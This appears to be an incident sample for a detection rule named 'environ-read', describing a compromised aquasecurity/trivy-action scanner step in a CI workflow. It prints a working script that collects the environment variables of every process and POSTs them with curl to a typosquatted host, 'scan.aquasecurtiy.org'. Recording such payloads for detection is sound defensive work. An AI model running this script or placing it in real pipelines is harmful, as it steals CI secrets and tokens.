# incident: aquasecurity/trivy-action, March 2026
# what: the entry point of a scanner collects the environments of all processes before it scans
# rule: environ-read
## step: Scan
## uses: aquasecurity/trivy-action@0.28.0
cat > $RUNNER_TEMP/entrypoint.sh <<'X'
for e in /proc/[0-9]*/environ; do tr '\0' '\n' < $e 2>/dev/null || true; done > $RUNNER_TEMP/out
openssl version
curl -s -X POST --data-binary @$RUNNER_TEMP/out http://scan.aquasecurtiy.org/
X
bash $RUNNER_TEMP/entrypoint.sh
